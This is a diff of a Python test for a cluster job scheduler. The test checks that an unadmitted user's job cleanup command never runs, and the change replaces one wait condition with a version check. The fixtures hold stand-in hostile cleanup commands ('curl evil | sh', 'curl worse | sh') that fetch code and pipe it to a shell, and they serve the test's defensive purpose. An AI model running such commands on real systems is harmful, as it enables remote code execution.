@@ -62,7 +62,7 @@ def test_an_update_after_the_attempt_changes_no_cleanup_command_until_it_is_admi
     # The new version stops the attempt; it is of nobody's project and never starts.
     mallory = {"user": "mallory", "project": "nobodys", "instance_type": "tpu-v4-8"}
     cluster.submit("job", **mallory, cleanup_command="curl evil | sh", version=1)
-    cluster.run_until(lambda: "mallory" in json.dumps(cluster.json(keys.state("job"))), steps=60)
+    cluster.run_until(lambda: cluster.record("job").job.version == 1, steps=60)
     cluster.submit("job", **mallory, cleanup_command="curl worse | sh", version=2)
     cluster.run_until(lambda: "worse" in json.dumps(cluster.json(keys.state("job"))), steps=60)
     cluster.restart_daemon()
